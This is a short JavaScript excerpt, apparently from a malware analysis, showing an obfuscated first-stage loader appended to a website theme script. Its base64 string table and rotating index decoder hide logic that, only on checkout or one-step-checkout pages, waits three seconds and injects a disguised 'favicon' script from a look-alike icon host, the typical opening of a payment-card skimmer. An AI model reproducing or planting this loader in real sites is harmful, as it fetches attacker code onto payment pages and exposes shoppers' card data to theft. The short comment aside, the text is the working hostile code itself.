// The first stage as it sits at the end of a theme script: an obfuscator-style string table,
// rotated at start-up and read through an index decoder, that only on checkout pages loads a
// "favicon" script from a look-alike icon host.
var _0x3c1f = ["aW5kZXhPZg==", "cGF0aG5hbWU=", "Y2hlY2tvdXQ=", "b25lc3RlcGNoZWNrb3V0", "c2NyaXB0",
  "Y3JlYXRlRWxlbWVudA==", "aHR0cHM6Ly9mYXZpY29uLXN0YXRpYy1jZG4uaW52YWxpZC9mYXZpY29uLmpzP3Y9",
  "YXBwZW5kQ2hpbGQ=", "aGVhZA==", "YXN5bmM=", "c3Jj"];
(function (_0x1a2b, _0x4d5e) {
  var _0x9f = function (_0x2c) { while (--_0x2c) { _0x1a2b.push(_0x1a2b.shift()); } };
  _0x9f(++_0x4d5e);
})(_0x3c1f, 0x1d3);
var _0x5e0a = function (_0x11, _0x22) {
  _0x11 = parseInt(_0x11, 0x10) - 0x0;
  var _0x33 = _0x3c1f[_0x11];
  if (_0x5e0a.cache === undefined) { _0x5e0a.cache = {}; }
  var _0x44 = _0x5e0a.cache[_0x11];
  if (_0x44 === undefined) {
    _0x44 = decodeURIComponent(escape(window["atob"](_0x33)));
    _0x5e0a.cache[_0x11] = _0x44;
  }
  return _0x44;
};
(function () {
  var _0xl = window["location"][_0x5e0a("0x7")];
  if (_0xl[_0x5e0a("0x6")](_0x5e0a("0x8")) < 0 &&
      _0xl[_0x5e0a("0x6")](_0x5e0a("0x9")) < 0) return;
  var _0xt = setTimeout(function () {
    var _0xe = document[_0x5e0a("0x0")](_0x5e0a("0xa"));
    _0xe[_0x5e0a("0x4")] = !0x0;
    _0xe[_0x5e0a("0x5")] = _0x5e0a("0x1") + Date["now"]()["toString"](0x24);
    document[_0x5e0a("0x3")][_0x5e0a("0x2")](_0xe);
    clearTimeout(_0xt);
  }, 0xbb8);
})();
